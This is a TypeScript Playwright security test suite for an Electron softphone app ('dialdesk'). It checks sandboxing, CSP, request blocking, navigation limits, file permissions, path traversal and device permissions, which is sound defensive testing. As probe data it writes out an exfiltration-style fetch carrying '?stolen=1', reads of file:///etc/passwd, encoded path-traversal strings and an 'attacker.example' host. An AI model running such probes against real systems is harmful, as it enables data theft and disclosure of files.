import { lstatSync, readdirSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { ipc } from '../../shared/contract/ipc.ts'
import type { App } from '../support/app.ts'
import { rest } from '../support/rest.ts'
import { startSignedIn } from '../support/set-up.ts'
import { expect, type Page, test } from '../support/test.ts'
import { withApp } from '../support/with-app.ts'

// What a page of ours could do if it were an attacker's: each item of Electron's checklist on the running app (docs/threat-model.md).
let app: App
let page: Page
let server: Server
/** Where no page of ours may ever get to. */
let outside = ''
const visits: string[] = []

withApp(
  (scope) => startSignedIn(scope, { certificate: 'refuse' }),
  async (started, scope) => {
    ;({ app, page } = started)
    // the incoming window comes with the first call of somebody who looks elsewhere
    await app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.blur())
    const { exchange } = started.sandbox
    await exchange.waitFor('office')
    const call = await exchange.callUser('office')
    await call.until('ringing')
    await expect.poll(() => app.electron.windows().length).toBe(2)
    call.hangUp()
    server = createServer((request, reply) => {
      visits.push(`${request.method} ${request.url}`)
      reply.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('<title>outside</title>')
    }).listen(0, '127.0.0.1')
    await new Promise((resolve) => server.once('listening', resolve))
    scope.add(server, (s) => s.close())
    outside = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  },
)
test.afterEach(() => {
  expect(visits).toEqual([])
})

/** The app's page, where it was and alive: it answers, and no other window is there. */
async function expectUnmoved(): Promise<void> {
  expect(new URL(page.url()).pathname).toBe('/index.html')
  expect(await page.evaluate(async () => (await window.dialdesk.app.snapshot()).ok)).toBe(true)
  const titles = await app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().map((w) => w.webContents.getURL()))
  expect(titles.every((url) => /^app:\/\/dialdesk\/(index|incoming)\.html$/.test(url))).toBe(true)
}

test('every window: sandboxed, isolated, without Node, with web security, without webviews and experiments', async () => {
  const windows = await app.electron.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map(({ webContents }) => ({
      ...(webContents as unknown as { getLastWebPreferences(): object }).getLastWebPreferences(),
    })),
  )
  expect(windows.length).toBeGreaterThan(1)
  for (const preferences of windows)
    expect(preferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      experimentalFeatures: false,
      webviewTag: false,
      navigateOnDragDrop: false,
    })
})

test('the page has the contract, frozen, and nothing of Node or Electron', async () => {
  const found = await page.evaluate(() => {
    const names = ['require', 'module', 'exports', 'process', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer', 'setImmediate'].filter(
      (name) => name in window,
    )
    const bridge = Object.entries(window.dialdesk).flatMap(([domain, entries]) => Object.keys(entries).map((name) => `${domain}.${name}`))
    let changed = false
    try {
      ;(window.dialdesk.account as { signOut: unknown }).signOut = () => {}
      changed = String(window.dialdesk.account.signOut).includes('=> {}')
    } catch {
      // frozen
    }
    return { names, bridge: bridge.sort(), changed }
  })
  expect(found).toEqual({
    names: [],
    bridge: Object.entries(ipc)
      .flatMap(([domain, entries]) => Object.keys(entries).map((name) => `${domain}.${name}`))
      .sort(),
    changed: false,
  })
})

test('the content security policy refuses inline script, eval, and whatever comes from elsewhere', async () => {
  const expected = [
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'media-src',
    'object-src',
    'script-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-elem',
    'worker-src',
  ]
  await page.evaluate(async (url) => {
    const w = window as unknown as { ran: string[]; broken: Set<string> }
    w.ran = []
    w.broken = new Set()
    document.addEventListener('securitypolicyviolation', (e) => w.broken.add(e.effectiveDirective))
    const add = <K extends keyof HTMLElementTagNameMap>(name: K, set: (e: HTMLElementTagNameMap[K]) => void): void => {
      const element = document.createElement(name)
      set(element)
      document.body.append(element)
    }
    add('script', (e) => {
      e.textContent = 'window.ran.push("inline")'
    })
    add('script', (e) => {
      e.src = `${url}/x.js`
    })
    add('button', (e) => {
      e.setAttribute('onclick', 'window.ran.push("attribute")')
      e.click()
    })
    add('img', (e) => {
      e.src = `${url}/x.png`
    })
    add('iframe', (e) => {
      e.src = `${url}/frame`
    })
    add('object', (e) => {
      e.data = `${url}/object`
    })
    add('audio', (e) => {
      e.src = `${url}/x.wav`
    })
    add('link', (e) => {
      e.rel = 'stylesheet'
      e.href = `${url}/x.css`
    })
    add('form', (e) => {
      e.action = `${url}/form`
      e.method = 'post'
      document.body.append(e)
      e.submit()
    })
    add('base', (e) => {
      e.href = `${url}/`
    })
    setTimeout('window.ran.push("eval")')
    await fetch(`${url}/fetch`).catch(() => {})
    try {
      new WebSocket(url.replace('http', 'ws'))
    } catch {
      // refused at once
    }
    try {
      new Worker(URL.createObjectURL(new Blob(['1'])))
    } catch {
      // refused at once
    }
  }, outside)
  await expect.poll(() => page.evaluate(() => [...(window as unknown as { broken: Set<string> }).broken].sort())).toEqual(expected)
  expect(await page.evaluate(() => (window as unknown as { ran: string[] }).ran)).toEqual([])
  await page.reload()
  await page.locator('nav.side').waitFor()
})

test('without the policy the session still refuses every request that is not to our own pages', async () => {
  const session = await page.context().newCDPSession(page)
  await session.send('Page.setBypassCSP', { enabled: true })
  await page.reload()
  await page.locator('nav.side').waitFor()
  const failed: (string | undefined)[] = []
  page.on('requestfailed', (request) => void (request.url().startsWith(outside) && failed.push(request.failure()?.errorText)))
  const results = await page.evaluate(async (url) => {
    const image = new Image()
    const shown = new Promise((resolve) => {
      image.onload = () => resolve('shown')
      image.onerror = () => resolve('refused')
    })
    image.src = `${url}/pixel.png`
    const frame = document.createElement('iframe')
    frame.src = `${url}/frame`
    document.body.append(frame)
    const sent = await fetch(`${url}/?stolen=1`, { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'refused',
    )
    const file = await fetch('file:///etc/passwd').then(
      () => 'read',
      () => 'refused',
    )
    return [sent, file, await shown]
  }, outside)
  expect(results).toEqual(['refused', 'refused', 'refused'])
  expect(failed.length).toBeGreaterThan(1)
  for (const text of failed) expect(text).toContain('net::ERR_BLOCKED_BY_CLIENT')
  await session.send('Page.setBypassCSP', { enabled: false })
  await page.reload()
  await page.locator('nav.side').waitFor()
})

test('the page goes nowhere and opens nothing: by address, link, new window or a file that is dropped', async () => {
  const hrefs = [`${outside}/link`, 'file:///etc/passwd', 'data:text/html,x', 'javascript:window.ran=1', 'chrome://version']
  for (const href of hrefs) await page.evaluate((to) => Object.assign(document.createElement('a'), { href: to }).click(), href)
  await page.evaluate((to) => location.assign(to), `${outside}/assign`)
  const windows = app.electron.windows().length
  for (const url of [`${outside}/window`, 'https://dialdesk.example.attacker.example/', 'https://dialdesk.example/']) {
    await page.evaluate((to) => void setTimeout(() => window.open(to)), url)
    await rest(300)
    await expect.poll(() => app.electron.windows().length).toBe(windows)
  }
  const session = await page.context().newCDPSession(page)
  const data = { items: [], files: ['/etc/hostname'], dragOperationsMask: 1 }
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const) await session.send('Input.dispatchDragEvent', { type, x: 500, y: 300, data })
  // the time in which something would go somewhere
  await rest(1000)
  await expectUnmoved()
  // of all those the one address that is ours to show went to the user's browser
  const opened = await app.electron.evaluate(() => (globalThis as unknown as { __recorder: { opened: string[] } }).__recorder.opened)
  expect(opened).toEqual(['https://dialdesk.example/'])
})

test('the user’s data is the user’s alone: every folder 0700, every file 0600', () => {
  test.skip(process.platform === 'win32', 'the access list of the profile does it there')
  const open: string[] = []
  const look = (path: string): void => {
    // the stand-in's own, which are made before main begins
    if (/\/(?:Chromium|host-singleton(?:\.pid)?)$/.test(path)) return
    const { mode } = lstatSync(path)
    if ((lstatSync(path).isFile() || lstatSync(path).isDirectory()) && mode & 0o077) open.push(`${path} ${(mode & 0o777).toString(8)}`)
    if (lstatSync(path).isDirectory()) for (const name of readdirSync(path)) look(join(path, name))
  }
  look(app.userData)
  expect(open).toEqual([])
})

test('no path of our scheme leads out of the folder of our pages', async () => {
  const paths = [
    '/../package.json',
    '/..%2f..%2fpackage.json',
    '/%2e%2e/%2e%2e/package.json',
    '/..\\..\\package.json',
    '/%00',
    '/recordings/../../x',
    '/main/index.js',
  ]
  const statuses = await page.evaluate((all) => Promise.all(all.map(async (path) => (await fetch(path).catch(() => ({ status: 0 }))).status)), paths)
  expect(statuses.filter((status) => status !== 404 && status !== 0)).toEqual([])
})

test('camera, screen, position, notifications and further devices are refused; the microphone is not', async () => {
  const answers = await page.evaluate(async () => {
    const refused = (what: Promise<unknown>): Promise<string> =>
      what.then(
        () => 'granted',
        (e: unknown) => (e instanceof Error ? e.name : 'refused'),
      )
    const { mediaDevices, geolocation } = navigator
    return {
      camera: await refused(mediaDevices.getUserMedia({ video: true })),
      both: await refused(mediaDevices.getUserMedia({ audio: true, video: true })),
      screen: await refused(mediaDevices.getDisplayMedia()),
      position: await refused(new Promise((yes, no) => geolocation.getCurrentPosition(yes, () => no(new Error('refused'))))),
      notifications: await Notification.requestPermission(),
      microphone: await refused(mediaDevices.getUserMedia({ audio: true }).then((stream) => stream.getTracks().forEach((track) => track.stop()))),
    }
  })
  expect(answers).toEqual({
    camera: 'NotAllowedError',
    both: 'NotAllowedError',
    screen: expect.stringMatching(/NotAllowedError|InvalidStateError|NotSupportedError|AbortError/),
    position: 'Error',
    notifications: 'denied',
    microphone: 'granted',
  })
})

test('peer connections keep to loopback: no window but the main one may have any, and its own names no address', async () => {
  const policies = await app.electron.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows()
      .map(({ webContents: w }) => [w.getURL().replace(/^.*\//, ''), w.getWebRTCIPHandlingPolicy()])
      .sort(),
  )
  expect(policies).toEqual([
    ['incoming.html', 'disable_non_proxied_udp'],
    ['index.html', 'default_public_interface_only'],
  ])
})
